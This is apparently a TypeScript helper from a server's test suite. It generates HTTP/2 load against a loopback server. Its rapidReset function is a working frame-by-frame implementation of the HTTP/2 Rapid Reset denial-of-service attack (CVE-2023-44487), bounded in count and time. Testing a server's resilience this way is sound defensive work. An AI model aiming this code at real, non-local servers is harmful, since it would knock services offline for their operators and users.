// HTTP/2 load for the loop-stall suite: a rapid reset (CVE-2023-44487) from several connections, written
// frame by frame (test/helpers/h2frames.ts), and many concurrent LIST streams on one node:http2 connection
// read in full. Both bounded in count and time; loopback only.
import { connect } from 'node:http2';
import { headersFrame, openRaw, rstFrame, T, F, type RawH2 } from '../../test/helpers/h2frames.js';
import { sleep } from './common.js';

export interface AttackTarget { port: number; ca: string; token: string }
export interface AttackOutcome { status: number | 'timeout' | 'error'; bytes: number; error?: string; goaways: number; streams: number }

const url = (t: AttackTarget) => `https://127.0.0.1:${t.port}`;
const requestFields = (t: AttackTarget, path: string): [string, string][] =>
  [[':method', 'GET'], [':scheme', 'https'], [':authority', '127.0.0.1'], [':path', path], ['authorization', `Bearer ${t.token}`]];

/** Writes `chunks` honouring backpressure, until done, closed or past `deadline`. */
async function writeAll(c: RawH2, chunks: Buffer[], deadline: number): Promise<void> {
  for (const b of chunks) {
    if (c.isClosed() || Date.now() > deadline) return;
    if (!c.write(b)) await Promise.race([new Promise((r) => c.socket.once('drain', r)), c.closed, sleep(Math.max(0, deadline - Date.now()))]);
  }
}

/**
 * `connections` connections each open `streams` GETs of `path`, every HEADERS followed at once by
 * RST_STREAM(CANCEL), in batches of 250 pairs. Resolves once all is written and 300 ms have passed.
 */
export async function rapidReset(t: AttackTarget, path: string, connections: number, streams: number, timeoutMs: number): Promise<AttackOutcome> {
  const deadline = Date.now() + timeoutMs;
  const conns = await Promise.all(Array.from({ length: connections }, () => openRaw(url(t), t.ca)));
  try {
    await Promise.all(conns.map((c) => c.waitFor((f) => f.type === T.SETTINGS && !(f.flags & F.ACK), 5000, "server's SETTINGS")));
    const fields = requestFields(t, path);
    const batches: Buffer[] = [];
    for (let first = 0; first < streams; first += 250) {
      const ids = Array.from({ length: Math.min(250, streams - first) }, (_, i) => 2 * (first + i) + 1);
      batches.push(Buffer.concat(ids.flatMap((id) => [headersFrame(id, fields), rstFrame(id)])));
    }
    await Promise.all(conns.map((c) => writeAll(c, batches, deadline)));
    await sleep(300);
    const goaways = conns.filter((c) => c.goaway() !== undefined).length;
    return { status: Date.now() > deadline ? 'timeout' : 200, bytes: 0, goaways, streams: connections * streams };
  } finally { for (const c of conns) c.destroy(); }
}

/** `streams` concurrent GETs of `path` on one connection, every response read in full. */
export async function concurrentStreams(t: AttackTarget, path: string, streams: number, timeoutMs: number): Promise<AttackOutcome> {
  const session = connect(url(t), { ca: t.ca });
  session.on('error', () => undefined);
  let bytes = 0;
  const statuses: number[] = [];
  let failed: string | undefined;
  const timer = setTimeout(() => session.destroy(), timeoutMs);
  try {
    await new Promise<void>((resolve, reject) => { session.once('remoteSettings', () => resolve()); session.once('error', reject); });
    await Promise.all(Array.from({ length: streams }, () => new Promise<void>((resolve) => {
      const r = session.request({ ':method': 'GET', ':path': path, authorization: `Bearer ${t.token}`, accept: 'application/json' });
      r.on('response', (h) => statuses.push(Number(h[':status'])));
      r.on('data', (c: Buffer) => { bytes += c.length; });
      r.on('error', (e: Error) => { failed ??= e.message; resolve(); });
      r.on('close', () => resolve());
      r.end();
    })));
  } finally { clearTimeout(timer); session.destroy(); }
  const ok = statuses.filter((s) => s === 200).length;
  const status = ok === streams ? 200 : failed === undefined && statuses.length < streams ? 'timeout' : 'error';
  return { status, bytes, goaways: 0, streams, ...(ok !== streams && { error: `${ok}/${streams} answered 200${failed ? `; ${failed}` : ''}` }) };
}
